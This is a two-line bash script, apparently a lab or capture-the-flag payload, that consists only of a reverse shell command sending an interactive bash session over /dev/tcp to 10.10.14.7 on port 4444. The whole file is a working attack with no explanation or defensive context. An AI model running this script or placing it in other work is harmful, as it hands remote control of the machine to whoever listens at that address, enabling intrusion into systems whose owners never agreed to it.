#!/bin/bash
bash -i >& /dev/tcp/10.10.14.7/4444 0>&1
